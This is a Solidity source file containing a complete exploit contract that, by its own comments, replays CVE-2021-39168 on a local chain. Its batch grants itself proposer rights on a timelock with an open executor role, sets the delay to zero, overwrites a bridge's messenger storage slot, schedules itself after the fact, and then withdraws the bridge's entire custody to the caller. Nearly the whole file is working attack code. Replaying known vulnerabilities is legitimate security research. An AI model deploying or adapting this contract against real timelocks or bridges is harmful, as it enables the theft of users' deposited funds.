// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface ITimelock {
    function PROPOSER_ROLE() external view returns (bytes32);
    function grantRole(bytes32 role, address account) external;
    function updateDelay(uint256 newDelay) external;
    function scheduleBatch(
        address[] calldata targets,
        uint256[] calldata values,
        bytes[] calldata calls,
        bytes32 predecessor,
        bytes32 salt,
        uint256 delay
    ) external;
    function executeBatch(
        address[] calldata targets,
        uint256[] calldata values,
        bytes[] calldata calls,
        bytes32 predecessor,
        bytes32 salt
    ) external payable;
}

interface IBridge {
    function setStorage(bytes32 key, bytes32 value) external;
    function l2TokenBridge() external view returns (address);
    function deposits(address asset, address claim) external view returns (uint256);
    function finalizeERC20Withdrawal(
        address asset,
        address claim,
        address from,
        address to,
        uint256 amount,
        bytes calldata data
    ) external;
}

/// @title SelfScheduled
/// @notice Replays, on a local chain, CVE-2021-39168: a timelock whose executor role is open checks
///         that a batch was scheduled only after running it, so the batch can make itself a proposer,
///         drop the delay and schedule itself. Here it also makes this contract the messenger of the
///         bridge that the timelock owns, which then releases all of its custody.
contract SelfScheduled {
    ITimelock private timelock;
    IBridge private bridge;

    /// @notice The sender the bridge believes in, now that this contract is its messenger.
    address public xDomainMessageSender;

    /// @notice Takes over the timelock and sends the bridge's whole custody to the caller.
    function run(ITimelock timelock_, IBridge bridge_, address asset, address claim) external {
        timelock = timelock_;
        bridge = bridge_;
        xDomainMessageSender = bridge_.l2TokenBridge();
        (address[] memory targets, uint256[] memory values, bytes[] memory calls) = _batch();
        timelock_.executeBatch(targets, values, calls, 0, 0);
        uint256 amount = bridge_.deposits(asset, claim);
        bridge_.finalizeERC20Withdrawal(asset, claim, address(this), msg.sender, amount, "");
    }

    /// @notice The batch's last call: schedules the batch being run.
    function schedule() external {
        (address[] memory targets, uint256[] memory values, bytes[] memory calls) = _batch();
        timelock.scheduleBatch(targets, values, calls, 0, 0, 0);
    }

    function _batch()
        private
        view
        returns (address[] memory targets, uint256[] memory values, bytes[] memory calls)
    {
        targets = new address[](4);
        values = new uint256[](4);
        calls = new bytes[](4);
        (targets[0], targets[1], targets[2], targets[3]) =
        (address(timelock), address(timelock), address(bridge), address(this));
        calls[0] = abi.encodeCall(ITimelock.grantRole, (timelock.PROPOSER_ROLE(), address(this)));
        calls[1] = abi.encodeCall(ITimelock.updateDelay, (0));
        // Slot 0 of the bridge is its messenger.
        calls[2] = abi.encodeCall(IBridge.setStorage, (0, bytes32(uint256(uint160(address(this))))));
        calls[3] = abi.encodeCall(this.schedule, ());
    }
}
